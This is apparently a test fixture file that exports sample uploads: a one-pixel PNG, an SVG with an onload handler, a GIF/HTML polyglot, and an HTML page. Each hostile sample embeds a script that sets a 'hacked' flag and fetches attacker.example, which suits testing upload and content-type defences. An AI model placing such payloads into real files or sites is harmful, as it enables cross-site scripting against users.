/** One red pixel. */
export const png = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==',
  'base64',
)

const script = '<script>window.hacked=1;fetch("https://attacker.example/")</script>'

/** A picture to some, a page to others. */
export const svg = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" onload="window.hacked=1">${script}</svg>`,
)

/** Begins as a GIF does and goes on as HTML. */
export const polyglot = Buffer.from(`GIF89a/*${script}*/=1;`)

export const html = Buffer.from(`<!doctype html><title>x</title>${script}`)
